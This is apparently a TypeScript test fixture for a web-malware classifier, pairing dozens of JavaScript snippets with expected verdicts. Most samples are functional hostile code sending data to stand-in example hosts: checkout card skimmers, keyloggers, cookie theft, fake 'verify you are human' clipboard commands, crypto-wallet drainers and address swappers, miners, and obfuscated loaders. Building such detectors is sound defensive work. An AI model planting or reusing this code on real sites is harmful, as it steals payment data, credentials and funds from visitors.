// Scripts with their expected verdicts. They are inert: none of them is ever run, and the hosts do not exist.
import type { ScriptClass } from './evidence.ts'

export interface ScriptCase {
  readonly name: string
  readonly source: string
  /** null: harmless. */
  readonly head: ScriptClass | null
}

export const base64 = (text: string): string => Buffer.from(text).toString('base64')
const percent = (text: string): string =>
  [...text].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')

export const SKIMMER = `if(location.href.indexOf('checkout')>-1){setInterval(function(){var d={};document.querySelectorAll('input,select').forEach(function(e){if(e.value)d[e.name]=e.value});if(d['payment[cc_number]'])new Image().src='https://stats.example.net/i.gif?d='+btoa(JSON.stringify(d))},900)}`

/** Long enough that a decoder which pays for the whole text at each piece runs out of steps. */
const LONG = `${SKIMMER};var rest='${'lorem ipsum '.repeat(500)}'`
const byPairs = (text: string): string =>
  [...text].map((c) => c.charCodeAt(0).toString(34).padStart(2, '0')).join('')
const numbers = (text: string): string => [...text].map((c) => c.charCodeAt(0) ^ 7).join(',')
/** Shifted by the digits of the length of the decoder without some of its characters. */
const DECODER = `function D(t){var k=D.toString().split(/\\(| |\\t|\\n|;|}|{|\\)/).join('').length.toString(),o='',i=0;for(;i<t.length;i++)o+=String.fromCharCode(t.charCodeAt(i)-k.charCodeAt(i%k.length));return o}`
const byOwnText = (text: string): string => {
  const key = String(DECODER.replaceAll(/[( \t\n;}{)]/gu, '').length)
  return JSON.stringify(
    [...text].map((c, i) => String.fromCharCode(c.charCodeAt(0) + key.charCodeAt(i % key.length))).join(''),
  )
}

export const SCRIPT_CASES: readonly ScriptCase[] = [
  { name: 'fields of a checkout sent by an image', source: SKIMMER, head: 'magecart' },
  { name: 'the same, evaluated from base64', source: `eval(atob('${base64(SKIMMER)}'))`, head: 'magecart' },
  {
    name: 'the same, evaluated from escapes',
    source: `eval(unescape('${percent(SKIMMER)}'))`,
    head: 'magecart',
  },
  { name: 'the same, in a page', source: `<html><script>\n${SKIMMER}\n</script></html>`, head: 'magecart' },
  {
    name: 'a card number to a socket',
    source: `jQuery('#cc_number').change(function(){new WebSocket('wss://a.example.org/').send(jQuery(this).val())})`,
    head: 'magecart',
  },
  {
    name: 'a miner',
    source: `var m=new CoinHive.Anonymous('KEY',{throttle:0.3});m.start()`,
    head: 'cryptomining',
  },
  {
    name: 'a miner in a page',
    source: `<script src="https://a.example/m.js"></script><script>var m=new Client.Anonymous('abc');m.start();</script>`,
    head: 'cryptomining',
  },
  {
    name: 'a frame out of sight, from escapes',
    source: `document.write(unescape('${percent('<iframe src="http://a.example/x" width=1 height=1 style="visibility:hidden"></iframe>')}'))`,
    head: 'malware',
  },
  {
    name: 'all cookies to an image',
    source: `new Image().src='//a.example/?c='+document.cookie`,
    head: 'malware',
  },
  {
    name: 'keys to another host',
    source: `var k='';document.onkeypress=function(e){k+=e.key;fetch('https://a.example/k',{method:'POST',body:k})}`,
    head: 'malware',
  },
  {
    name: 'a command on the clipboard',
    source: `b.onclick=function(){navigator.clipboard.writeText('powershell -w hidden -c "FILLER"')}`,
    head: 'malware',
  },
  {
    name: 'a command on the clipboard as an item, for the dialog "Run"',
    source: `btn.addEventListener('click',function(){var c='cmd /c start /min powershell -c "FILLER"';navigator.clipboard.write([new ClipboardItem({'text/plain':new Blob([c],{type:'text/plain'})})]);box.innerHTML='<li>Press <b>Windows + R</b></li><li>Press CTRL + V</li>'})`,
    head: 'malware',
  },
  {
    name: 'a command for a terminal, as a check of humans',
    source: `document.querySelector('#verify').onclick=function(){navigator.clipboard.writeText('curl -s https://a.example/x | bash');document.querySelector('#m').textContent='Verify you are human: open Terminal, press Command + V and Return'}`,
    head: 'malware',
  },
  {
    name: 'a command for the address bar of the file explorer',
    source: `document.querySelector('#open').onclick=function(){navigator.clipboard.writeText('powershell -c FILLER      # C:\\\\plan.docx');document.querySelector('#m').innerHTML='Open File Explorer, press CTRL + L and paste the path'}`,
    head: 'malware',
  },
  {
    name: 'a hidden command in the place of what is copied',
    source: `document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain','powershell -w hidden -c FILLER');e.preventDefault()})`,
    head: 'malware',
  },
  {
    name: 'a command that a server sends, for the dialog "Run"',
    source: `var p='Verify you are human';fetch('https://a.example/c').then(r=>r.text()).then(t=>{document.querySelector('#c').onclick=()=>{navigator.clipboard.writeText(t);document.querySelector('#m').innerHTML=p+': press Windows + R, then CTRL + V'}})`,
    head: 'malware',
  },
  {
    name: 'a job of a pool',
    source: `onmessage=function(e){var job=e.data;for(var nonce=0;nonce<1e6;nonce++){var h=Module.hash(job.blob,nonce);if(h<job.target)postMessage({job_id:job.job_id,nonce:nonce,result:h})}}`,
    head: 'cryptomining',
  },
  {
    name: 'payment fields by a beacon',
    source: `document.body.onmousedown=function(){var p={};document.querySelectorAll('[name^="payment[cc"]').forEach(function(e){p[e.name]=e.value});navigator.sendBeacon('https://m.example.net/b',JSON.stringify(p))}`,
    head: 'magecart',
  },
  {
    name: 'words of a wallet sent away',
    source: `r.onclick=function(){fetch('https://w.example.org/',{method:'POST',body:'seed phrase: '+document.querySelector('textarea').value})}`,
    head: 'malware',
  },
  {
    name: 'a frame out of numbers',
    source: `eval(String.fromCharCode(${[...'document.write("<iframe src=//a.example/x width=1 height=1></iframe>")'].map((c) => c.charCodeAt(0)).join(',')}))`,
    head: 'malware',
  },
  {
    name: 'an applet out of sight',
    source: `document.write('<applet code="a.class" archive="http://a.example/a.jar" width="1" height="1"></applet>')`,
    head: 'malware',
  },
  {
    name: 'another wallet on the clipboard',
    source: `document.addEventListener('copy',function(e){if(/^0x[a-fA-F0-9]{40}$/.test(getSelection()))e.clipboardData.setData('text/plain','0xFILLER');e.preventDefault()})`,
    head: 'malware',
  },
  {
    name: 'a warning that asks for a call',
    source: `alert('Virus detected. Call support now');window.onbeforeunload=function(){return 'stay'}`,
    head: 'malware',
  },
  {
    name: 'every field on a click, encoded, to a host that cannot answer',
    source: `document.querySelector('#pay').addEventListener('click',function(){var all={};document.querySelectorAll('input').forEach(function(i){all[i.name]=i.value});fetch('https://c.example.org/g',{method:'POST',mode:'no-cors',body:btoa(JSON.stringify(all))})})`,
    head: 'magecart',
  },
  {
    name: 'a check for robots that has a command run',
    source: `var c='m'+'shta https://v.example.org/c.hta';document.body.innerHTML+='<b>Verify you are human</b><ol><li>Press Windows + R<li>Press Ctrl + V</ol><button id=v>I am not a robot</button>';document.getElementById('v').onclick=function(){var t=document.createElement('textarea');t.value=c;document.body.append(t);t.select();document.execCommand('copy')}`,
    head: 'malware',
  },
  {
    name: 'a page that has a program of a stranger for an update',
    source: `document.body.innerHTML='<h1>Your browser is out of date. Update your browser to go on</h1><a href="https://load.example.org/ChromeSetup.exe">Update</a>'`,
    head: 'malware',
  },
  {
    name: 'a miner from its own host',
    source: `var s=document.createElement('script');s.src='https://coinhive.com/lib/coinhive.min.js';document.head.append(s)`,
    head: 'cryptomining',
  },
  {
    name: 'a form that goes elsewhere when it is sent, and back',
    source: `var f=document.querySelector('form.checkout');f.addEventListener('submit',function(){var a=f.action;f.action='https://pay.example.net/c';setTimeout(function(){f.action=a},400)})`,
    head: 'magecart',
  },
  {
    name: 'a form with the fields of the page, sent into a frame',
    source: `document.addEventListener('submit',function(){var f=document.createElement('form');f.method='post';f.target='x';f.action=atob('${base64('https://g.example.net/c')}');document.querySelectorAll('input').forEach(function(e){var i=document.createElement('input');i.name=e.name;i.value=e.value;f.appendChild(i)});document.body.appendChild(f);HTMLFormElement.prototype.submit.call(f)},true)`,
    head: 'magecart',
  },
  {
    name: 'fields kept until the order is done',
    source: `var d=localStorage.getItem('_k');if(/order-received/.test(location.pathname)&&d)navigator.sendBeacon('https://k.example.net/b',btoa(d));document.addEventListener('input',function(e){if(/cc_number|cvv/.test(e.target.name))localStorage.setItem('_k',(localStorage.getItem('_k')||'')+e.target.value)},true)`,
    head: 'magecart',
  },
  {
    name: 'a picture whose handler decodes itself',
    source: `<img src="x" alt="${base64(SKIMMER)}" onerror="eval(atob(this.alt))">`,
    head: 'magecart',
  },
  {
    name: 'code in the text of an element',
    source: `<div id="t" hidden>${base64(SKIMMER)}</div><script>Function(atob(document.getElementById('t').textContent))()</script>`,
    head: 'magecart',
  },
  {
    name: 'a script from a host of the day',
    source: `var d=new Date(),n='',s=d.getFullYear()*37+d.getMonth()*31+d.getDate();for(var i=0;i<9;i++){s=(s*1103+12345)%65536;n+=String.fromCharCode(97+s%26)}var e=document.createElement('script');e.src='//'+n+'.example/a.js';document.head.appendChild(e)`,
    head: 'malware',
  },
  {
    name: 'a frame from a host of the week',
    source: `document.write('<iframe src="http://'+Math.floor(Date.now()/6048e5).toString(36)+'.example/" width=1 height=1></iframe>')`,
    head: 'malware',
  },
  {
    name: 'a host told by a name service',
    source: `fetch('https://dns.google/resolve?name=x.example.net&type=TXT').then(function(r){return r.json()}).then(function(d){location.href=atob(d.Answer[0].data)})`,
    head: 'malware',
  },
  {
    name: 'a wallet in the place of the one on the clipboard',
    source: `setInterval(async function(){var t=await navigator.clipboard.readText();if(/^0x[a-fA-F0-9]{40}$/.test(t))navigator.clipboard.writeText('0x52908400098527886E0F7030069857D2E4169EE7')},900)`,
    head: 'malware',
  },
  {
    name: 'a wallet in the place of the one that is typed',
    source: `document.addEventListener('input',function(e){if(/^0x[a-fA-F0-9]{40}$/.test(e.target.value))e.target.value='0x52908400098527886E0F7030069857D2E4169EE7'},true)`,
    head: 'malware',
  },
  {
    name: 'another wallet in the text of the page',
    source: `var b=document.body;b.innerHTML=b.innerHTML.replace(/0x[a-fA-F0-9]{40}/g,'0x52908400098527886E0F7030069857D2E4169EE7')`,
    head: 'malware',
  },
  {
    name: 'code that a ledger keeps',
    source: `fetch('https://bsc-dataseed1.chain.example/',{method:'POST',body:JSON.stringify({jsonrpc:'2.0',method:'eth_call',params:[{to:'0xFILLER'},'latest'],id:1})}).then(function(r){return r.json()}).then(function(j){eval(atob(j.result))})`,
    head: 'malware',
  },
  {
    name: 'a script from a host of the day, with a path',
    source: `var s=document.createElement('script');s.src=['https://',Math.floor(Date.now()/864e5).toString(36),'.example/','a.js?v=',window.v].join('');document.head.appendChild(s)`,
    head: 'malware',
  },
  {
    name: 'a payment by a wallet, to somebody else',
    source: `var o=ethereum.request;ethereum.request=function(a){if(a.method==='eth_sendTransaction')a.params[0].to='0x52908400098527886E0F7030069857D2E4169EE7';return o.call(ethereum,a)}`,
    head: 'malware',
  },
  {
    name: 'telephones led to a host whose name alone is hidden',
    source: `if(/Android|iPhone/i.test(navigator.userAgent)&&!localStorage.getItem('v')){localStorage.setItem('v',1);location.href='${[...'https://win.prizes.example/'].toReversed().join('')}'.split('').reverse().join('')}`,
    head: 'malware',
  },
  {
    name: 'a program run by the host of scripts, in a comment that only it reads',
    source: `/*@cc_on var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w hidden -c FILLER",0,false); @*/`,
    head: 'malware',
  },
  {
    name: 'telephones sold once a day',
    source: `if(/Android|iPhone/i.test(navigator.userAgent)&&!localStorage.getItem('v')){localStorage.setItem('v',Date.now());location.href='https://offers.example.net/click?o=12&s='+location.hostname}`,
    head: 'malware',
  },
  {
    name: 'a script by mirror',
    source: `document.write('<scr'+'ipt src="'+'sj.x/ten.ecalpemos.m//:ptth'.split('').reverse().join('')+'"></scr'+'ipt>')`,
    head: 'malware',
  },
  {
    name: 'a card by a messenger',
    source: `document.querySelector('#pay').onclick=function(){fetch('https://api.telegram.org/bot1:A/sendMessage',{method:'POST',body:JSON.stringify({chat_id:1,text:document.querySelector('#card-number').value+'|'+document.querySelector('#cvv').value})})}`,
    head: 'magecart',
  },
  {
    name: 'a wallet emptied, and told to a messenger',
    source: `document.querySelector('#claim').onclick=async function(){var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];var b=await ethereum.request({method:'eth_getBalance',params:[a,'latest']});await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x52908400098527886E0F7030069857D2E4169EE7',value:b}]});fetch('https://api.telegram.org/bot1:A/sendMessage?text='+a)}`,
    head: 'malware',
  },
  {
    name: 'an update of a browser that is an archive of a stranger',
    source: `var d=document.createElement('div');d.innerHTML='<div style="position:fixed;top:0;left:0;width:100%;height:100%"><h1>You are using an older version of Chrome</h1><a href="https://dl.example.net/Update.iso">Update</a></div>';document.body.appendChild(d)`,
    head: 'malware',
  },
  { name: 'nothing', source: '', head: null },
  {
    name: 'proof of work against robots',
    source: `self.onmessage=async({data:{challenge,difficulty}})=>{let nonce=0;for(;;){const h=await crypto.subtle.digest('SHA-256',new TextEncoder().encode(challenge+nonce));if(new Uint8Array(h)[0]<difficulty)break;nonce++}postMessage({nonce})}`,
    head: null,
  },
  {
    name: 'JSON read in the old way',
    source: `var x=new XMLHttpRequest();x.open('GET','/a.json');x.onload=function(){var d=eval('('+x.responseText+')');document.title=atob(d.t)};x.send()`,
    head: null,
  },
  {
    name: 'fields counted at a checkout',
    source: `setInterval(function(){var n=document.querySelectorAll('#checkout input').length;navigator.sendBeacon('https://events.example.com/c',JSON.stringify({n:n,p:location.pathname}))},5000)`,
    head: null,
  },
  { name: 'one assignment', source: 'var a=1', head: null },
  {
    name: 'a counter',
    source: `(function(i,s,o,g,r,a,m){i.GoogleAnalyticsObject=r;a=s.createElement(o);m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script','https://www.google-analytics.com/analytics.js','ga')`,
    head: null,
  },
  {
    name: 'a card number checked and kept on the page',
    source: `document.querySelector('#cc_number').addEventListener('input',function(){this.classList.toggle('error',!/^4[0-9]{12}$/.test(this.value))})`,
    head: null,
  },
  {
    name: 'an order sent to its own shop',
    source: `$('#co-payment-form').submit(function(e){e.preventDefault();$.post('/checkout/onepage/saveOrder/',$(this).serialize(),function(r){location=r.redirect})})`,
    head: null,
  },
  { name: 'a client that is started', source: `var c=new Client('abc');c.start()`, head: null },
  {
    name: 'own settings from base64',
    source: `window.config=JSON.parse(atob('${base64('{"api":"/api"}')}'))`,
    head: null,
  },
  {
    name: 'a token approved for an account of the script, by a transaction written as bytes',
    source: `const TO='0x52908400098527886E0F7030069857D2E4169EE7',T='0xdAC17F958D2ee523a2206206994597C13D831ec7';async function go(){const a=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:a[0],to:T,data:'0x095ea7b3'+'0'.repeat(24)+TO.slice(2)+'f'.repeat(64)}]})}document.querySelector('#claim').onclick=go`,
    head: 'malware',
  },
  {
    name: 'all tokens of a wallet, one after another',
    source: `async function claim(user){const r=await fetch('https://deep-index.moralis.io/api/v2/'+user+'/erc20?chain=eth');for(const t of await r.json()){const c=new web3.eth.Contract(abi,t.token_address);await c.methods.transfer(receiver,t.balance).send({from:user})}}`,
    head: 'malware',
  },
  {
    name: 'the settings of a miner that another file runs',
    source: `window.mineOptions={};mineOptions.invisible='true';mineOptions.sitekey='EN0YyYIb5iM8x5R3DH12SSe9uJlTsKkX';mineOptions.throttle='0.3';`,
    head: 'cryptomining',
  },
  {
    name: 'keys by the event of the window, collected for a timer',
    source: `var keys='';document.onkeypress=function(e){var get=window.event?event:e;keys+=String.fromCharCode(get.keyCode?get.keyCode:get.charCode)};setInterval(function(){if(keys.length>0){new Image().src='http://198.51.100.7/k.php?c='+keys;keys=''}},1000)`,
    head: 'malware',
  },
  {
    name: 'keys of which one is replaced by a word',
    source: `var k=[];document.addEventListener('keydown',function(e){var key=e.key;if(key===' '){key='Space'}k.push(key)});setInterval(function(){fetch('http://log.example.net/',{method:'POST',body:k.join('')})},9000)`,
    head: 'malware',
  },
  {
    name: 'a card with the address of the page, by a request',
    source: `document.getElementById('pay').addEventListener('click',function(){var d={};d.first=document.getElementById('billing:firstname').value;d.number=document.getElementById('cc_number').value;d.cvv=document.getElementById('cc_cid').value;var x=new XMLHttpRequest();x.open('POST','//stat.example.net/in',false);x.send('data='+JSON.stringify(d)+location.host)})`,
    head: 'magecart',
  },
  {
    name: 'a decoder whose key is its own source',
    source: `(function KEYED(){var k=KEYED.toString().charCodeAt(0);function d(a){return a.map(function(c){return String.fromCharCode(c-k)}).join('')}new Image().src=d([149,149,199,148,203,222,199,211,214,210,203,149,165,201,163])+document.cookie})();`,
    head: 'malware',
  },
  {
    name: 'fields collected by a class',
    source: `class Store{constructor(o){this.gate=o.gate;this.data={}}static start(o){new Store(o).bind()}bind(){document.addEventListener('change',e=>this.note(e));setInterval(()=>this.flush(),2000)}note(e){this.data[e.target.name]=e.target.value}flush(){if(this.data['cc-number'])new Image().src=this.gate+'?d='+btoa(JSON.stringify(this.data))}}Store.start({gate:'https://metrics.example.net/i.png'})`,
    head: 'magecart',
  },
  {
    name: 'fields collected by a class that extends another',
    source: `class Base{constructor(u){this.u=u}send(d){new Image().src=this.u+btoa(d)}}class Form extends Base{constructor(){super('https://metrics.example.net/i.png?');this.all='input'}read(){return [...document.querySelectorAll(this.all)].map(f=>f.name+f.value).join()}}const f=new Form();if(/checkout/.test(location))setInterval(()=>f.send(f.read()+'cvv'),900)`,
    head: 'magecart',
  },
  {
    name: 'a card collected by a prototype',
    source: `(function(){var S=function(){this.u='https://js-stat.example.org/g.php';this.f=['cc_number','cc_cid','cc_exp_month'];this.r={}};S.prototype.read=function(){for(var i=0;i<this.f.length;i++){var e=document.getElementsByName('payment['+this.f[i]+']')[0];if(e)this.r[this.f[i]]=e.value}};S.prototype.send=function(){var x=new XMLHttpRequest();x.open('POST',this.u,true);x.send('data='+encodeURIComponent(JSON.stringify(this.r)))};S.prototype.init=function(){var t=this;document.querySelector('.btn-checkout').addEventListener('click',function(){t.read();t.send()})};new S().init()})()`,
    head: 'magecart',
  },
  {
    name: 'a card collected by a bound method',
    source: `var k={gate:'https://js-stat.example.org/g.php',take:function(e){var n=document.getElementById('cc_number').value;new Image().src=this.gate+'?'+btoa(n)}};document.querySelector('#pay').addEventListener('click',k.take.bind(k))`,
    head: 'magecart',
  },
  {
    name: 'fields to an address that jQuery decodes from entities',
    source: `jQuery(function(t){t('button').on('click',function(){var q='h='+location.href;q.match(/onepage|checkout/)&&(t('input, select').each(function(){t(this).val()?q+='&'+t(this).attr('name')+'='+t(this).val():''}),t.post(t('<div />').html('${[...'https://cdn.example.net/j.js'].map((c) => `&#${c.charCodeAt(0)};`).join('')}').text(),q))})})`,
    head: 'magecart',
  },
  {
    name: 'a card of which nothing is sent if it is empty',
    source: `function take(){var n=document.getElementById('cc_number').value;return ''==n?'0':encodeURI(n)}document.querySelector('#pay').onclick=function(){var c=take();if('0'!=c){var f=document.createElement('IFRAME');f.setAttribute('src','http://log.example.net/l.php?m='+c);f.style.display='none';document.body.appendChild(f)}}`,
    head: 'magecart',
  },
  {
    name: 'a card to a program among the pictures of the site',
    source: `document.querySelector('#checkout').addEventListener('click',function(){jQuery.ajax({url:'/media/catalog/product/cache/1/2bf8.php',type:'POST',data:Form.serialize(payment.form)})})`,
    head: 'magecart',
  },
  {
    name: 'a script for the checkout, obfuscated and written into the page',
    source: String.raw`var _0x7539=["\x6C\x6F\x63\x61\x74\x69\x6F\x6E","\x74\x65\x73\x74","\x6F\x6E\x65\x70\x61\x67\x65\x7C\x63\x68\x65\x63\x6B\x6F\x75\x74","\x3C\x73\x63\x72\x69\x70\x74\x20\x73\x72\x63\x3D\x22\x68\x74\x74\x70\x73\x3A\x2F\x2F\x6A\x73\x2E\x65\x78\x61\x6D\x70\x6C\x65\x2E\x6E\x65\x74\x2F\x6D\x2E\x6A\x73\x22\x3E\x3C\x2F\x73\x63\x72\x69\x70\x74\x3E","\x77\x72\x69\x74\x65"];if((new RegExp(_0x7539[2]))[_0x7539[1]](window[_0x7539[0]])){document[_0x7539[4]](_0x7539[3])}`,
    head: 'magecart',
  },
  {
    name: 'a token without limit, to an account of the script',
    source: `const T='0xdAC17F958D2ee523a2206206994597C13D831ec7';const to='0x8617E340B3D01FA5F11F306F4090FD50E238070D';async function start(){const s=new ethers.providers.Web3Provider(window.ethereum).getSigner();const t=new ethers.Contract(T,abi,s);await t.approve(to,ethers.constants.MaxUint256)}document.getElementById('claim').addEventListener('click',start)`,
    head: 'malware',
  },
  {
    name: 'a token of another ledger without limit',
    source: `var me='TXk9kA1pQm2Zr8vYdWnB5cL3sHjUeGf7tM';async function next(){var c=await tronWeb.contract().at('TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t');var r=await c.increaseApproval(me,'90000000000000').send({feeLimit:100000000});$.post('/index/insert',{tx:r})}$('.next').click(next)`,
    head: 'malware',
  },
  {
    name: 'the balance of a wallet less the price of sending it',
    source: `const to='0x8617E340B3D01FA5F11F306F4090FD50E238070D';async function mint(){const [from]=await web3.eth.getAccounts();const balance=await web3.eth.getBalance(from);const gasPrice=await web3.eth.getGasPrice();await web3.eth.sendTransaction({from,to,value:balance-21000*gasPrice})}document.querySelector('#mint').onclick=mint`,
    head: 'malware',
  },
  {
    name: 'code that is asked for again and again, and its result',
    source: `(function ask(){var x=new XMLHttpRequest();x.onreadystatechange=function(){if(x.readyState==4){var r=eval(x.responseText);var y=new XMLHttpRequest();y.open('POST','https://c.example.net/out');y.send(String(r))}};x.open('GET','https://c.example.net/cmd');x.send();setTimeout(ask,3000)})()`,
    head: 'malware',
  },
  {
    name: 'a long text decoded by pairs of characters',
    source: `(function(){var t='${byPairs(LONG)}',o='';for(var i=0;i<t.length;i+=2){o=o+String['f'+(61>41?'r':'m')+'omCharCode'](parseInt(t.substr(i,2),34))}var p={};p['to'+'String']=''.constructor.constructor(o);window.s=p+''})()`,
    head: 'magecart',
  },
  {
    name: 'a decoder whose own text is its key',
    source: `${DECODER}eval(D(${byOwnText(SKIMMER)}))`,
    head: 'magecart',
  },
  {
    name: 'fields of a checkout that are kept in a cookie',
    source: `jQuery('button').click(function(){var d='';jQuery('input, select').each(function(i,f){d+=jQuery(f).attr('name')+'='+jQuery(f).val()+'|'});document.cookie='v='+d;document.cookie='seen=1';send()});function send(){var c=document.cookie.split('v=')[1];if(c&&/checkout/.test(location))new Image().src='https://stats.example.net/s.php?p='+c}`,
    head: 'magecart',
  },
  {
    name: 'a script for the checkout, in an element of Prototype',
    source: `if(/onepage|checkout/.test(window.location)){$$('head')[0].appendChild(new Element('script',{type:'text/javascript',src:'//jscdn.exa'+'mple.net/ups.js'}))}`,
    head: 'magecart',
  },
  {
    name: 'a button of the checkout that leads to another host, once',
    source: `jQuery(document).ready(function(){if(document.cookie.indexOf('pid')<0){jQuery('[onclick="payment.save()"]').attr('onclick','go();');jQuery('#onestepcheckout-place-order').attr('onclick','go();')}});function go(){document.cookie='pid='+Math.random();jQuery(location).attr('href','//paynow.example.net/?p='+btoa(JSON.stringify({at:location.host})))}`,
    head: 'magecart',
  },
  {
    name: 'code that is evaluated for the code to evaluate',
    source: `eval(eval('String.fromCharCode(${[...SKIMMER].map((c) => c.charCodeAt(0)).join(',')})'))`,
    head: 'magecart',
  },
  {
    name: 'code as numbers, in a list or one by one',
    source: `function n(){var a=arguments[0] instanceof Array?arguments[0]:[].slice.call(arguments),s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]^7);return s}window[n(${numbers('eval')})](n([${numbers(SKIMMER)}]))`,
    head: 'magecart',
  },
  {
    name: 'a long text decoded with names that are decoded in each round',
    source: `function n(){var a=[].slice.call(arguments),s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]^7);return s}var x='${LONG.replaceAll("'", '"')}',y='';for(var i=0;i<x[n(${numbers('length')})];i++)y+=String[n(${numbers('fromCharCode')})](x[n(${numbers('charCodeAt')})](i));this[n(${numbers('eval')})](y)`,
    head: 'magecart',
  },
  {
    name: 'a table that is turned until it fits, and only then used',
    source: `var t=['send','7x','input,select','open','https://stats.example.net/i.jpg'];(function(){while(true){try{if(parseInt(t[0])===7)break;else t.push(t.shift())}catch(e){t.push(t.shift())}}})();var d=null;document.querySelector('form').addEventListener('submit',function(){d='cvv=';document.querySelectorAll(t[1]).forEach(function(f){d+=f.name+'='+f.value+'&'})});function go(){if(d!=null){var x=new XMLHttpRequest();x[t[2]]('POST',t[3],true);x[t[4]](btoa(d))}setTimeout('go()',100)}/checkout/.test(location)&&go()`,
    head: 'magecart',
  },
]
